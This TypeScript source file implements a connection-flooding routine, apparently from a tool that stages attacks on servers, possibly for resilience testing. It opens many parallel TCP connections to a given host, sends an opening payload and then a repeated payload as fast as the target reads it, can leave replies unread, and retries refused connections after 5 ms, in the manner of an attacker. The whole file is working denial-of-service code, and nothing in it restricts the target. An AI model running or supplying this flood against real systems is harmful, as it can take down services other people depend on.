import { connect, type Socket } from 'node:net';
import type { AttackContext } from './attack';

/** A flood, as each of its connections sends it. */
export interface Flood {
  /** Sent first, in one write. */
  readonly opening: Buffer;
  /** Sent repeatedly after the opening, as fast as the server reads it; empty: the connection stays silent. */
  readonly repeated: Buffer;
  /** Connections at a time; a connection that the server ends is opened again. */
  readonly connections: number;
  /** False: the server's answers are left unread. */
  readonly reads: boolean;
  /** Most bytes that one connection sends. */
  readonly maxBytes?: number;
}

/** Pause before a refused or lost connection is retried (ms): short, as an attacker would. */
const AGAIN_MS = 5;

/** Floods until the attack is over. */
export async function flood(context: AttackContext, options: Flood): Promise<void> {
  await Promise.all(Array.from({ length: options.connections }, () => floodAgain(context, options)));
}

async function floodAgain(context: AttackContext, options: Flood): Promise<void> {
  while (context.goesOn()) {
    await floodOnce(context, options);
    await pause(AGAIN_MS);
  }
}

function floodOnce(context: AttackContext, options: Flood): Promise<void> {
  const { opening, repeated, reads, maxBytes = Infinity } = options;
  return new Promise((resolve) => {
    const socket = open(context);
    let sent = 0;
    const end = (): void => {
      clearInterval(watch);
      socket.destroy();
      resolve();
    };
    const watch = setInterval(() => {
      if (!context.goesOn()) end();
    }, 20);
    const write = (bytes: Buffer): boolean => {
      sent += bytes.length;
      context.spent.bytes += bytes.length;
      return socket.write(bytes);
    };
    const more = (): void => {
      while (!socket.destroyed && context.goesOn() && sent < maxBytes && repeated.length > 0) {
        if (!write(repeated)) return;
      }
    };
    socket.on('error', end).on('close', end).on('drain', more);
    socket.once('connect', () => {
      write(Buffer.concat([Buffer.from(context.preambleHex, 'hex'), opening]));
      more();
    });
    if (reads) socket.resume();
  });
}

/** Opens a connection from the attacker's address and counts it. */
export function open({ host, port, localAddress, spent }: AttackContext, to = port): Socket {
  spent.connections += 1;
  return connect({ host, port: to, localAddress, noDelay: true });
}

export function pause(ms: number): Promise<void> {
  return new Promise((resolve) => setTimeout(resolve, ms));
}
